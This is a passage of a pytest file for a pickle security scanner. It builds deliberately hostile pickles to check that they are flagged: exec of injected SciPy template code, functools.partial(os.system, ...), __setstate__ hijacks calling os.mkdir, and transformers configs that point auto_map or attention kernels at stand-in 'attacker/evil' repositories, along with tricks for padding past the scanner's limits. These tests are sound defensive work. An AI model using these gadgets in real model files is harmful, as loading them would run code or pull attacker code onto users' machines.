"""Classes of real libraries that act when unpickled, proved with the real libraries and flagged critical.

- SciPy: every distribution (rv_generic and subclasses) execs the `_parse_arg_template` string of its pickled
  state in __setstate__. A RandomizedSearchCV with `scipy.stats` parameters pickles such objects.
- scikit-learn: ScoringMonitor.__setstate__ opens a multiprocessing Client to the address in its state.

- Allowlisted names used the way no real file uses them: TrainingArguments and accelerate's PartialState called
  (their constructors set environment variables, read files, share state), objects called through helpers
  that call their arguments (numpy's __generator_ctor, torch's _rebuild_from_type_v2, copyreg._reconstructor,
  functools.partial, a defaultdict's factory), and functions real files only keep as values (np.mean,
  accuracy_score) called at load.
- OmegaConf: comparing two DictConfigs (as dict keys) resolves their interpolations at load, so they stay off
  the allowlist.

Each proof loads the corpus sample's bytes (rebuilt with a marker payload or a local address) with plain
`pickle.load` in a fresh interpreter, then checks that wscan calls the same bytes critical, and that an
`allow` entry in the config cannot change that.
"""

from __future__ import annotations

import base64
import codecs
import collections
import copyreg
import importlib.util
import io
import json
import os
import pickle
import socket
import struct
import subprocess
import sys
import warnings
import zipfile
from pathlib import Path
from types import ModuleType

import pytest

from tests.helpers.pickle_bytes import binunicode as _s
from tests.helpers.pickle_bytes import global_op as _g
from tests.helpers.scanning import scan, scan_bytes
from wscan.config import Config
from wscan.model import Severity

CORPUS_BUILD = Path(__file__).resolve().parents[1] / "corpus" / "build.py"
LOAD = "import pickle, sys; pickle.load(open(sys.argv[1], 'rb'))"


def _build() -> ModuleType:
    spec = importlib.util.spec_from_file_location("wscan_corpus_build_gadgets", CORPUS_BUILD)
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module  # dataclasses resolve their module by name
    spec.loader.exec_module(module)
    return module


def _load_in_child(path: Path, cwd: Path) -> subprocess.CompletedProcess[str]:
    """Plain pickle.load in a fresh, isolated interpreter (the library raises after acting; that is fine)."""
    return subprocess.run(
        [sys.executable, "-I", "-c", LOAD, str(path)], cwd=cwd, capture_output=True, text=True, timeout=120
    )


def _critical(folder: Path, blob: bytes, name: str, config: Config | None = None) -> set[str]:
    report = scan_bytes(folder, blob, name, config)
    return {f"{f.rule_id} {f.message}" for f in report.findings if f.severity >= Severity.CRITICAL}


def test_scipy_distribution_runs_its_pickled_template(tmp_path: Path) -> None:
    pytest.importorskip("scipy")
    marker = tmp_path / "scipy-template-ran"
    blob = _build().scipy_distribution_pickle(f"open({str(marker)!r}, 'w').close()")
    sample = tmp_path / "search.pkl"
    sample.write_bytes(blob)

    _load_in_child(sample, tmp_path)
    assert marker.exists(), "SciPy no longer execs the pickled template: revisit the rule"

    found = _critical(tmp_path / "scan", blob, "search.pkl")
    assert any(f.startswith("WS-PKL-032") and "norm_gen" in f for f in found), found
    allowed = Config(allow=frozenset({"scipy.stats._continuous_distns.norm_gen"}))
    assert any(f.startswith("WS-PKL-032") for f in _critical(tmp_path / "allowed", blob, "search.pkl", allowed))


def test_scipy_distributions_as_scipy_writes_them_pass(tmp_path: Path) -> None:
    """The template SciPy writes passes: a RandomizedSearchCV with continuous and discrete distributions (whose
    vecentropy is np.vectorize of getattr(self, "_entropy")), as scikit-learn pickles it."""
    pytest.importorskip("scipy")
    from scipy import stats
    from sklearn.linear_model import LogisticRegression
    from sklearn.model_selection import RandomizedSearchCV

    space = {"C": stats.loguniform(1e-3, 1e2), "intercept_scaling": stats.uniform(0.5, 2.0),
             "max_iter": stats.randint(20, 60)}  # fmt: skip
    search = RandomizedSearchCV(LogisticRegression(max_iter=50), space, n_iter=2, cv=2, random_state=0)
    search.fit([[0.0, 1.0], [1.0, 0.0], [0.2, 0.9], [0.9, 0.1], [0.1, 0.8], [0.8, 0.3]], [0, 1, 0, 1, 0, 1])
    report = scan_bytes(tmp_path / "scan", pickle.dumps(search, protocol=5), "search.pkl")
    assert not [f for f in report.findings if f.severity >= Severity.HIGH], report.findings


def test_a_scipy_distribution_in_place_of_a_method_is_high(tmp_path: Path) -> None:
    """Calling a distribution only freezes it, so it stood in for any method quietly: review 14 made a config's
    `validate` one, and the check it replaced never ran. Only a frozen distribution's `dist` keeps one (the
    RandomizedSearchCV test above); anywhere else, under a method's name, it is WS-PKL-026."""
    pytest.importorskip("scipy")
    import numpy as np
    from scipy import stats
    from sklearn.preprocessing import StandardScaler

    scaler = StandardScaler().fit([[0.0], [2.0]])
    scaler.transform = stats.norm  # type: ignore[method-assign]
    sample = tmp_path / "scaler.pkl"
    sample.write_bytes(pickle.dumps(scaler, protocol=4))
    use = "import pickle, sys; print(type(pickle.load(open(sys.argv[1], 'rb')).transform([[4.0]])).__name__)"
    used = subprocess.run([sys.executable, "-c", use, str(sample)], capture_output=True, text=True, timeout=300)
    assert used.stdout.strip() == "rv_continuous_frozen", used.stderr[-2000:]  # no scaling: the method is gone
    assert _rules(tmp_path / "scan", sample.read_bytes()) == {"WS-PKL-026"}
    assert _rules(tmp_path / "frozen", pickle.dumps(stats.norm(loc=np.float64(1.0)), protocol=4)) == set()


def test_scipy_linear_operators_are_off_the_allowlist(tmp_path: Path) -> None:
    """SciPy's linear operators call what they hold, some from their constructor: a _CustomLinearOperator given no
    dtype calls its matvec to find one, so a pickle that makes one calls the function it names while it loads.
    No real file keeps an operator; they were allowed with every scipy.sparse class and are not now."""
    pytest.importorskip("scipy")
    import numpy as np
    from scipy.sparse.linalg import LinearOperator
    from scipy.sparse.linalg._interface import _CustomLinearOperator

    shown = tmp_path / "shown.pkl"
    shown.write_bytes(_dump(_Call(_CustomLinearOperator, ((2, 2), print))))
    load = "import pickle, sys; pickle.load(open(sys.argv[1], 'rb'))"
    loaded = subprocess.run([sys.executable, "-c", load, str(shown)], capture_output=True, text=True, timeout=300)
    assert loaded.stdout.strip() == "[0 0]", loaded.stderr[-2000:]  # print ran at load, on the probe vector
    called = _rules(tmp_path / "called", _dump(_Call(_CustomLinearOperator, ((2, 2), np.negative))))
    assert called == {"WS-PKL-003"}  # np.negative is a value the allowlist keeps; the operator is the problem
    kept = LinearOperator((2, 2), matvec=np.negative, dtype=np.float64)  # as scipy pickles one: state only
    assert _rules(tmp_path / "kept", pickle.dumps(kept, protocol=4)) == {"WS-PKL-003"}


def test_scipy_distributions_as_scipy_before_1_6_wrote_them_pass(tmp_path: Path) -> None:
    """SciPy before 1.6 pickled a distribution's state as (constructor parameters, random state), with no template
    text: today's __setstate__ calls __init__, which builds the template from the class. (From 1.6 to today the
    template and the code that fills it are the same, read from the 1.6.3, 1.7.3 and 1.8.1 wheels' sources.) The
    old state is made here by SciPy's own code of that time, `(self._updated_ctor_param(), self._random_state)`,
    and today's SciPy loads it."""
    from scipy import stats
    from scipy.stats._distn_infrastructure import rv_continuous, rv_discrete

    def old_state(self: rv_continuous | rv_discrete) -> tuple[object, object]:
        return self._updated_ctor_param(), self._random_state

    space = {"C": stats.gamma, "n": stats.poisson, "frozen": stats.uniform(0, 2), "k": stats.randint(1, 5)}
    with pytest.MonkeyPatch.context() as patch:
        for cls in (rv_continuous, rv_discrete):
            patch.setattr(cls, "__getstate__", old_state)
        blob = pickle.dumps(space, protocol=2)
    assert b"_parse_arg_template" not in blob
    loaded = pickle.loads(blob)  # the test's own pickle: the old layout must still load
    assert loaded["C"].pdf(1.0, 2.0) == stats.gamma.pdf(1.0, 2.0)
    report = scan_bytes(tmp_path / "scan", blob, "search.pkl")
    assert not [f for f in report.findings if f.severity >= Severity.HIGH], report.findings


@pytest.mark.parametrize(
    "shape",
    ["statement-after", "default-argument", "bytes", "computed-state", "pairs-state", "shape-name-expression"],
)
def test_scipy_distribution_template_variants_are_critical(tmp_path: Path, shape: str) -> None:
    """Text SciPy never writes, however it reaches the state: another statement, code in a default, bytes (exec
    takes those too), a state a call computes, (name, value) pairs; each is critical."""
    pytest.importorskip("scipy")
    from scipy import stats

    real = stats.gamma.__getstate__()["_parse_arg_template"]
    body = _build()
    cls = body.glob("scipy.stats._continuous_distns", "gamma_gen") + body.const(()) + pickle.NEWOBJ
    texts: dict[str, object] = {
        "statement-after": real + "import os\n",
        "default-argument": real.replace("(self, a, ", "(self, a=print(1), ", 1),
        "bytes": real.encode(),
        "shape-name-expression": real.replace("a, ", "a.b, "),
    }
    if shape in texts:
        state = body.const({"_parse_arg_template": texts[shape]})
    elif shape == "computed-state":  # dict(...) of a list of pairs: a call's result
        state = body.call(body.glob("builtins", "dict"), ([("_parse_arg_template", real + "x = 1\n")],))
    else:  # a list of (name, value) pairs, which __dict__.update takes as well
        state = body.const([("_parse_arg_template", real + "x = 1\n")])
    blob = body.stream(cls + state + pickle.BUILD, 4)
    found = _critical(tmp_path / "scan", blob, "dist.pkl")
    assert any(f.startswith("WS-PKL-032") and "gamma_gen" in f for f in found), found


def test_sklearn_scoring_monitor_connects_on_load(tmp_path: Path) -> None:
    pytest.importorskip("sklearn.callback")
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen(1)
        server.settimeout(60)
        port = server.getsockname()[1]
        blob = _build().scoring_monitor_pickle("127.0.0.1", port)
        sample = tmp_path / "monitor.pkl"
        sample.write_bytes(blob)
        child = subprocess.Popen([sys.executable, "-I", "-c", LOAD, str(sample)], cwd=tmp_path,
                                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # fmt: skip
        try:
            connection, _ = server.accept()  # the loader dials the address from the pickle
            connection.close()
        finally:
            child.wait(timeout=60)

    found = _critical(tmp_path / "scan", blob, "monitor.pkl")
    assert any(f.startswith("WS-PKL-013") and "ScoringMonitor" in f for f in found), found
    assert any(f.startswith("WS-PKL-001") and "ListenerHandle" in f for f in found), found


def test_functools_partial_is_judged_by_what_it_wraps(tmp_path: Path) -> None:
    """partial(check_array) is what scikit-learn writes; partial(os.system) is still critical, for os.system."""
    import functools
    import os
    import pickle

    from sklearn.utils.validation import check_array

    harmless = pickle.dumps(functools.partial(check_array, dtype="float64"), protocol=4)
    assert not scan_bytes(tmp_path / "a", harmless, "partial.pkl").findings
    hostile = pickle.dumps(functools.partial(os.system, "echo wscan"), protocol=4)
    found = _critical(tmp_path / "b", hostile, "partial.pkl")
    assert any(f.startswith("WS-PKL-001") and "system" in f for f in found), found


# --- allowlisted names used the way no real file uses them (found by auditing every allowlisted callable) ---


class _Call:
    """Pickles as REDUCE: func(*args), then BUILD with `state` if given, then SETITEMS with `items` if given."""

    def __init__(
        self, func: object, args: tuple[object, ...], state: object = None, items: dict[object, object] | None = None
    ) -> None:
        self.func, self.args, self.state, self.items = func, args, state, items


class _Pickler(pickle.Pickler):
    def reducer_override(self, obj: object) -> object:
        if isinstance(obj, _Call):
            if obj.items is not None:
                return (obj.func, obj.args, obj.state, None, iter(obj.items.items()))
            return (obj.func, obj.args) if obj.state is None else (obj.func, obj.args, obj.state)
        return NotImplemented


def _restored(cls: type, state: object = None) -> _Call:
    """What a writer makes of an instance: copyreg._reconstructor(cls, object, None), then BUILD with `state`."""
    return _Call(copyreg._reconstructor, (cls, object, None), state)  # type: ignore[attr-defined]


def _dump(obj: object) -> bytes:
    buffer = io.BytesIO()
    _Pickler(buffer, protocol=2).dump(obj)
    return buffer.getvalue()


def _rules(folder: Path, blob: bytes) -> set[str]:
    return {f.rule_id for f in scan_bytes(folder, blob, "model.pkl").findings if f.severity >= Severity.HIGH}


def test_training_arguments_called_with_arguments_is_flagged(tmp_path: Path) -> None:
    """TrainingArguments(...) runs __post_init__, which sets environment variables from its fields; a real
    training_args.bin restores it from state and is clean."""
    import dataclasses

    from transformers.training_args import TrainingArguments

    overrides = {"output_dir": str(tmp_path / "out"), "torch_compile_backend": "wscan_marker", "report_to": "none"}
    fields = [f for f in dataclasses.fields(TrainingArguments) if f.init]
    args = tuple(
        overrides.get(f.name, f.default if f.default is not dataclasses.MISSING else f.default_factory())  # type: ignore[misc]
        for f in fields
    )
    blob = _dump(_Call(TrainingArguments, args))
    sample = tmp_path / "training_args.bin"
    sample.write_bytes(blob)
    shown = subprocess.run(
        [sys.executable, "-I", "-c", LOAD.replace("pickle.load(", "x = pickle.load(") +
         "; import os; print(os.environ.get('ACCELERATE_DYNAMO_BACKEND'))", str(sample)],
        cwd=tmp_path, capture_output=True, text=True, timeout=300,
    )  # fmt: skip
    assert "WSCAN_MARKER" in shown.stdout.upper(), shown.stderr[-2000:]
    assert "WS-PKL-014" in _rules(tmp_path / "called", blob)

    real = TrainingArguments(output_dir=str(tmp_path / "out"), report_to="none")
    assert not _rules(tmp_path / "real", pickle.dumps(real))


def test_transformers_config_called_or_renamed_is_flagged(tmp_path: Path) -> None:
    """A model config is allowed restored from state, as torch.save writes it. Called, its constructor runs on
    the pickle's arguments (WS-PKL-014); given its own attribute_map, the config reads a method's name as another
    attribute of the state, as the real loader shows (WS-PKL-040)."""
    from transformers import BertConfig

    real = BertConfig(hidden_size=64)
    assert not _rules(tmp_path / "real", pickle.dumps(real, protocol=2))
    assert "WS-PKL-014" in _rules(tmp_path / "called", _dump(_Call(BertConfig, (), {"hidden_size": 64})))

    renamed = BertConfig(hidden_size=64)
    renamed.__dict__["attribute_map"] = {"to_dict": "payload"}
    renamed.__dict__["payload"] = "reached"
    blob = pickle.dumps(renamed, protocol=2)
    assert pickle.loads(blob).to_dict == "reached"  # the loaded config's method is gone, aliased to the state's value
    assert "WS-PKL-040" in _rules(tmp_path / "renamed", blob)


def test_a_pickled_config_is_judged_as_its_config_json(tmp_path: Path) -> None:
    """A config restored from state holds what transformers acts on, as config.json does (review 32): an auto_map
    into another repository, an attention implementation naming a hub kernel (what `_attn_implementation` returns
    to the model's kernel loader), a value the pickle computes there. The implementation the loading program chose
    (`sdpa`) is the real file's and passes."""
    from transformers import BertConfig

    def state(**extra: object) -> bytes:
        config = BertConfig(hidden_size=64)
        config.__dict__.update(extra)
        return _dump(config)

    assert not _rules(tmp_path / "real", state(_attn_implementation_internal="sdpa"))
    hub = state(auto_map={"AutoModel": "attacker/evil--modeling_evil.EvilModel"})
    assert "WS-REPO-002" in _rules(tmp_path / "hub", hub)
    kernel = state(_attn_implementation_internal="attacker/evil-kernel")
    assert pickle.loads(kernel)._attn_implementation == "attacker/evil-kernel"  # what the kernel loader is given
    assert "WS-REPO-026" in _rules(tmp_path / "kernel", kernel)
    computed = state(auto_map={"AutoModel": _Call(str, (b"attacker/evil--m.C", "ascii", "strict"))})
    assert pickle.loads(computed).auto_map == {"AutoModel": "attacker/evil--m.C"}
    assert "WS-PKL-042" in _rules(tmp_path / "computed", computed)
    # Review 33: a decoy public key the property hides; a local auto_map, fetched from the `_name_or_path` the file
    # chooses (a pickle has no folder of its own); more configs than wscan reads; one shared dict under every config.
    decoy = state(_attn_implementation_internal="attacker/evil-kernel", _attn_implementation="sdpa")
    assert pickle.loads(decoy)._attn_implementation == "attacker/evil-kernel"
    assert "WS-REPO-026" in _rules(tmp_path / "decoy", decoy)
    local = state(auto_map={"AutoModel": "modeling_evil.EvilModel"}, _name_or_path="/elsewhere/evil")
    assert "WS-REPO-002" in _rules(tmp_path / "local", local)
    many = _dump([BertConfig(hidden_size=64) for _ in range(1001)])
    assert "WS-PKL-042" in _rules(tmp_path / "many", many)
    from transformers import GPTQConfig

    quantization = GPTQConfig(bits=4)
    quantization.__dict__["format"] = "payload.py:Loader"  # compressed-tensors imports a module:name format
    assert "WS-REPO-028" in _rules(tmp_path / "format", state(quantization_config=quantization))
    # On its own, a quantization config is judged as what quantization_config holds (it was clean before).
    assert "WS-REPO-028" in _rules(tmp_path / "format-alone", _dump(quantization))
    from transformers import AwqConfig, FineGrainedFP8Config

    real_quantization = [GPTQConfig(bits=4), FineGrainedFP8Config(), AwqConfig(bits=4)]
    assert not _rules(tmp_path / "quantization-alone", pickle.dumps(real_quantization))
    shared = {f"k{index}": {"tokenizer_class": "evil.Loader"} for index in range(3000)}
    flood = _dump([BertConfig(hidden_size=64, shared=shared) for _ in range(100)])
    assert "WS-PKL-042" in _rules(tmp_path / "flood", flood)
    # Review 35: a dict that sets one key 60 times spent the reader's budget, which kept one list of what it read, and
    # every config after it was unread without a finding.
    decoy = BertConfig(hidden_size=64)
    decoy.__dict__["notes"] = {"SPLICE": 0}
    spent = pickle.dumps([decoy, BertConfig(hidden_size=64, _attn_implementation_internal="attacker/evil-kernel")],
                         protocol=2)  # fmt: skip
    same_key = b"".join(_s("x") + b"](" + b"K\x01" * 4096 + b"e" for _ in range(60))
    at = spent.index(_s("SPLICE"))
    end = spent.index(b"K\x00s", at) + 3
    spent = spent[:at] + b"(" + same_key + b"u" + spent[end:]
    assert len(pickle.loads(spent)[0].notes) == 1
    assert "WS-PKL-042" in _rules(tmp_path / "spent", spent)


def test_a_sub_config_kept_as_a_dict_is_judged_at_every_depth(tmp_path: Path) -> None:
    """Review 36: a composite config restored from state keeps a dict as its text_config, which becomes a config with
    that attn_implementation once the config is rebuilt from its dict (or saved and loaded again), and then reaches the
    kernel loader. A value computed there (str(...)) was unread without a finding below the top level; a dict read
    first at the reader's depth limit was reused, cut short, where it sat one level down (plain constants, 0 findings).
    AutoRoundConfig's own `packing_format` (`auto_round:gptq`) is no compressed-tensors format (it was WS-REPO-028)."""
    from transformers import AutoRoundConfig, CLIPConfig, LlamaConfig

    def with_text(value: object) -> CLIPConfig:
        config = CLIPConfig()
        text = config.text_config.to_dict()
        text["attn_implementation"] = value
        config.__dict__["text_config"] = text
        return config

    computed = with_text(_Call(str, ("attacker/evil-kernel",)))
    blob = _dump(computed)
    loaded = pickle.loads(blob)
    assert type(loaded).from_dict(loaded.to_dict()).text_config._attn_implementation == "attacker/evil-kernel"
    assert "WS-PKL-042" in _rules(tmp_path / "computed", blob)
    deep = with_text("attacker/evil-kernel")
    deep.vision_config.__dict__["task_specific_params"] = {"history": [[[[[[deep.text_config]]]]]]}
    assert "WS-REPO-026" in _rules(tmp_path / "deep", pickle.dumps(deep, protocol=2))

    # Review 37: the key computed (str("attn_implementation")), or the part made as an OrderedDict, which the reader
    # cannot read at all; a real vocabulary of labels longer than what the machine keeps of a dict stays clean.
    computed_key = with_text(None)
    computed_key.text_config.pop("attn_implementation")
    computed_key.text_config[_Call(str, ("attn_implementation",))] = "attacker/evil-kernel"  # type: ignore[index]
    blob = _dump(computed_key)
    loaded = pickle.loads(blob)
    assert type(loaded).from_dict(loaded.to_dict()).text_config._attn_implementation == "attacker/evil-kernel"
    assert "WS-PKL-042" in _rules(tmp_path / "computed-key", blob)
    ordered = with_text("attacker/evil-kernel")
    ordered.__dict__["text_config"] = collections.OrderedDict(ordered.text_config)
    blob = pickle.dumps(ordered, protocol=2)
    loaded = pickle.loads(blob)
    assert type(loaded).from_dict(loaded.to_dict()).text_config._attn_implementation == "attacker/evil-kernel"
    assert "WS-PKL-042" in _rules(tmp_path / "ordered", blob)
    labels = CLIPConfig()
    labels.id2label = {index: f"label {index}" for index in range(21843)}  # an ImageNet-22k head's labels
    assert not _rules(tmp_path / "labels", pickle.dumps(labels, protocol=2))
    # Review 38: parts under other names (RagConfig's question_encoder, Musicgen's text_encoder, which __init__ turns
    # into configs with AutoConfig.for_model), made as an OrderedDict or padded past what the machine keeps.
    from transformers import RagConfig

    encoder = {**with_text("attacker/evil-kernel").text_config, "model_type": "clip_text_model"}
    for name, part in {"rag-ordered": collections.OrderedDict(encoder),
                       "rag-padded": {**{f"pad{index}": 0 for index in range(4100)}, **encoder}}.items():  # fmt: skip
        rag = RagConfig(question_encoder={"model_type": "bert"}, generator={"model_type": "bart"})
        rag.__dict__["question_encoder"] = part
        blob = pickle.dumps(rag, protocol=2)
        loaded = pickle.loads(blob)
        rebuilt = type(loaded).from_dict(loaded.to_dict()).question_encoder
        assert rebuilt._attn_implementation == "attacker/evil-kernel", name
        assert "WS-PKL-042" in _rules(tmp_path / name, blob), name

    quantized = LlamaConfig(num_hidden_layers=1, hidden_size=16, intermediate_size=32, num_attention_heads=2)
    quantized.quantization_config = AutoRoundConfig()
    assert quantized.quantization_config.packing_format.startswith("auto_round:")
    assert not _rules(tmp_path / "auto-round", pickle.dumps([quantized, AutoRoundConfig()], protocol=4))


def test_the_base_config_and_watermarking_configs_pass_restored_from_state(tmp_path: Path) -> None:
    """A bare PretrainedConfig and the watermarking configs a GenerationConfig holds were high (not allowlisted);
    restored from state they pass, the base config is read as config.json still, and CompileConfig (whose options go
    to torch.compile when generate() compiles) stays out."""
    import torch
    from transformers import GenerationConfig, PretrainedConfig
    from transformers.generation import CompileConfig, SynthIDTextWatermarkingConfig, WatermarkingConfig

    generation = GenerationConfig(watermarking_config=WatermarkingConfig(bias=2.5))
    synth = SynthIDTextWatermarkingConfig(ngram_len=5, keys=[654, 400, 836])
    for name, value in {"base": PretrainedConfig(), "generation": generation, "synthid": synth}.items():
        assert not _rules(tmp_path / f"{name}-2", pickle.dumps(value, protocol=2)), name
        buffer = io.BytesIO()
        torch.save({"config": value}, buffer)
        assert not _rules(tmp_path / f"{name}-torch", buffer.getvalue()), name
    kernel = PretrainedConfig()
    kernel.__dict__["_attn_implementation_internal"] = "attacker/evil-kernel"
    assert "WS-REPO-026" in _rules(tmp_path / "kernel", pickle.dumps(kernel, protocol=2))
    assert "WS-PKL-003" in _rules(tmp_path / "compile", pickle.dumps(CompileConfig(), protocol=2))


def test_a_config_unread_in_many_places_is_one_finding(tmp_path: Path) -> None:
    """One WS-PKL-042 per config naming the first five places and counting the rest, not a line per value; each view
    of the config (through the attention property, as stored) adds no second finding."""
    from transformers import BertConfig

    config = BertConfig(hidden_size=16, num_hidden_layers=1, num_attention_heads=2, intermediate_size=32)
    for index in range(130):
        setattr(config, f"part{index:03}", collections.OrderedDict(attn_implementation="attacker/evil-kernel"))
    findings = [f for f in scan_bytes(tmp_path, pickle.dumps(config, protocol=2), "model.pkl").findings
                if f.rule_id == "WS-PKL-042"]  # fmt: skip
    assert [f.evidence["field"] for f in findings] == ["part000, part001, part002, part003, part004 and 125 more"]


def test_a_composite_config_saved_after_model_init_is_clean(tmp_path: Path) -> None:
    """Model init sets every sub-config's attention implementation (`sdpa`), which a pickled config keeps."""
    from transformers import CLIPConfig, CLIPModel

    tiny = {"hidden_size": 16, "intermediate_size": 32, "num_hidden_layers": 1, "num_attention_heads": 2}
    config = CLIPModel(CLIPConfig(text_config=tiny, vision_config={**tiny, "image_size": 32, "patch_size": 16})).config
    assert config.text_config._attn_implementation_internal is not None
    assert not _rules(tmp_path, _dump({"config": config}))


def test_multimodal_configs_that_forward_names_to_their_parts(tmp_path: Path) -> None:
    """Qwen2-VL and Qwen2.5-VL configs read and set every name their text_config holds on it (T5Gemma sets six on its
    encoder and decoder): they were high unknown classes (WS-PKL-003) even as the model writes them. Allowed restored
    from state, what the forwarding can reach stays judged, each proved with the real loader: a second BUILD finds
    `__setstate__` in the text config's dict and calls it (WS-PKL-026 on that state, WS-PKL-018); a slot state is set
    through the forwarding setter (WS-PKL-023); the parent's attention implementation is the text config's
    (WS-REPO-026)."""
    import torch
    from transformers import (
        ColQwen2Config,
        Qwen2_5_VLConfig,
        Qwen2_5_VLModel,
        Qwen2VLConfig,
        Qwen2VLModel,
        T5GemmaConfig,
    )

    text = {"hidden_size": 16, "intermediate_size": 32, "num_hidden_layers": 1, "num_attention_heads": 2,
            "num_key_value_heads": 1, "vocab_size": 64, "rope_scaling": {"type": "mrope", "mrope_section": [1, 1, 2]}}
    vision = {"depth": 1, "embed_dim": 16, "hidden_size": 16, "num_heads": 2, "patch_size": 2, "spatial_merge_size": 1,
              "temporal_patch_size": 1}  # fmt: skip
    after_init = [Qwen2VLModel(Qwen2VLConfig(text_config=text, vision_config=vision)).config,
                  Qwen2_5_VLModel(Qwen2_5_VLConfig(text_config=text, vision_config={
                      **vision, "out_hidden_size": 16, "intermediate_size": 32, "fullatt_block_indexes": [0]})).config]
    assert after_init[0].text_config._attn_implementation_internal == "sdpa"
    defaults = [Qwen2VLConfig(), Qwen2_5_VLConfig(), T5GemmaConfig(), ColQwen2Config()]
    for protocol in (2, 4):
        assert not _rules(tmp_path / f"real{protocol}", pickle.dumps({"configs": defaults + after_init}, protocol))

    module = "transformers.models.qwen2_vl.configuration_qwen2_vl"
    qwen, part = _g("copyreg", "_reconstructor") + _tuple(_g(module, "Qwen2VLConfig"), _g("builtins", "object"),
                                                          b"N") + b"R", _g(module, "Qwen2VLTextConfig")  # fmt: skip
    text_part = _g("copyreg", "_reconstructor") + _tuple(part, _g("builtins", "object"), b"N") + b"R"
    marker = tmp_path / "made-by-second-build"
    proof = b"\x80\x02" + qwen + _dict((_s("text_config"), text_part + _dict((_s("__setstate__"), _g("os", "mkdir")))
                                                                          + b"b")) + b"b" + _s(str(marker)) + b"b."
    (tmp_path / "proof.pkl").write_bytes(proof)
    _load_in_subprocess(tmp_path / "proof.pkl", "pickle")
    assert marker.is_dir(), "the second BUILD did not call the text config's __setstate__"
    linear = _g("torch.nn.modules.linear", "Linear")
    forwarded = b"\x80\x02" + qwen + _dict((_s("text_config"), text_part + _dict((_s("__setstate__"), linear)) + b"b"))
    forwarded += b"b" + _tuple(b"K\x03", b"K\x03") + b"b."
    assert {"WS-PKL-026", "WS-PKL-018"} <= _rules(tmp_path / "forwarded", forwarded)

    slots = text_part + _dict((_s("vocab_size"), b"K\x05")) + b"b"
    slot_state = b"\x80\x02" + qwen + _dict((_s("text_config"), slots)) + _dict((_s("vocab_size"), linear))
    slot_state += b"\x86b."
    assert pickle.loads(slot_state).text_config.vocab_size is torch.nn.Linear  # set on the part
    assert "WS-PKL-023" in _rules(tmp_path / "slots", slot_state)

    kernel = text_part + _dict((_s("_attn_implementation"), _s("sdpa")),
                               (_s("_attn_implementation_internal"), _s("attacker/evil-kernel"))) + b"b"
    parent = b"\x80\x02" + qwen + _dict((_s("text_config"), kernel), (_s("_attn_implementation_internal"), _s("sdpa")))
    parent += b"b."
    assert pickle.loads(parent)._attn_implementation == "attacker/evil-kernel"  # the text config's, forwarded
    assert "WS-REPO-026" in _rules(tmp_path / "kernel", parent)

    # Review 34: a part that is no config (an allowed Namespace) holds what the parent returns, unjudged before.
    import argparse

    remote = {"AutoModel": "attacker/evil--modeling_evil.EvilModel"}
    for name, extra in {"namespace-kernel": {"_attn_implementation": "attacker/evil-kernel"},
                        "namespace-auto-map": {"auto_map": remote}}.items():  # fmt: skip
        config = Qwen2VLConfig()
        config.__dict__["text_config"] = argparse.Namespace(**vars(config.text_config), **extra)
        blob = pickle.dumps(config, protocol=2)
        key, value = next(iter(extra.items()))
        assert getattr(pickle.loads(blob), key) == value, name  # what from_config hands the kernel or code loader
        assert _rules(tmp_path / name, blob) == {"WS-PKL-042"}, name

    # Review 35: the parent answers from its own dict for a name its part does not hold (the part's text config keeps
    # only the internal key), and a part without the attention property (GenerationConfig) returns the plain key
    # behind a decoy internal one.
    from transformers import GenerationConfig

    own = Qwen2VLConfig()
    own.__dict__["_attn_implementation_internal"] = "attacker/evil-kernel"
    generation = GenerationConfig()
    generation.__dict__.update(_attn_implementation="attacker/evil-kernel", _attn_implementation_internal="sdpa")
    plain = Qwen2VLConfig()
    plain.__dict__["text_config"] = generation
    for name, config in {"own-kernel": own, "plain-part": plain}.items():
        blob = pickle.dumps(config, protocol=2)
        assert pickle.loads(blob)._attn_implementation == "attacker/evil-kernel", name
        assert "WS-REPO-026" in _rules(tmp_path / name, blob), name


def test_accelerate_partial_state_called_is_flagged(tmp_path: Path) -> None:
    from accelerate.state import PartialState

    blob = _dump(_Call(PartialState, (True,), {"num_processes": 1337}))
    assert "WS-PKL-014" in _rules(tmp_path, blob)


def test_torch_layers_pass_restored_from_state_but_not_called(tmp_path: Path) -> None:
    """A whole-model save restores torch.nn layers with cls.__new__ and their attributes and keeps F.relu as a
    value: clean. A layer constructor called with the pickle's arguments (an allocation of any size, or a hook
    registered through it), a torch.nn.functional call, and a layer's method reached with getattr are not."""
    import copyreg

    import torch
    from torch import nn

    saved = io.BytesIO()
    torch.save(nn.TransformerEncoderLayer(8, 2, 8), saved)
    assert not _rules(tmp_path / "real", saved.getvalue())
    assert "WS-PKL-014" in _rules(tmp_path / "call", _dump(_Call(nn.Linear, (1 << 20, 1 << 20))))
    normal = torch.distributions.Normal
    assert "WS-PKL-014" in _rules(tmp_path / "dist", _dump(_Call(normal, (torch.zeros(1), torch.ones(1)))))
    assert "WS-PKL-014" in _rules(tmp_path / "ex", _dump(_Call(copyreg._reconstructor, (nn.Linear, nn.Linear, 2))))  # type: ignore[attr-defined]
    assert "WS-PKL-003" in _rules(tmp_path / "f", _dump(_Call(nn.functional.relu, (torch.zeros(1),))))
    method = _Call(getattr, (nn.Module, "register_forward_hook"))
    assert "WS-PKL-017" in _rules(tmp_path / "getattr", _dump(method))


def test_sklearn_ecosystem_classes_pass_restored_from_state_but_not_called(tmp_path: Path) -> None:
    """imbalanced-learn and category_encoders objects are restored with copyreg and BUILD: clean. Calling one of
    their classes is not what a real file does (WS-PKL-014), and imblearn's LazyLoader, which imports the module
    its state names when an attribute is read, was screened out of the allowlist."""
    from category_encoders import TargetEncoder
    from imblearn import LazyLoader
    from imblearn.over_sampling import SMOTE

    assert not _rules(tmp_path / "real", pickle.dumps([SMOTE(k_neighbors=3), TargetEncoder()], protocol=2))
    assert "WS-PKL-014" in _rules(tmp_path / "call", _dump(_Call(SMOTE, ())))
    assert "WS-PKL-003" in _rules(tmp_path / "lazy", _dump(_Call(LazyLoader, ("x", {}, "os"))))


def test_gensim_models_pass_restored_from_state_but_not_called(tmp_path: Path) -> None:
    """gensim's models are restored from state: clean. A model constructor called by the pickle trains on what the
    pickle gives it (WS-PKL-014). Only what saved models import is allowed: a similarity shard (unpickles the file
    its state names) and the corpus readers stay unknown (WS-PKL-003); EnsembleLda, which imports the module its
    state names once used, is allowed with that name judged (WS-PKL-038, next test)."""

    from gensim.corpora.lowcorpus import LowCorpus
    from gensim.models import Word2Vec
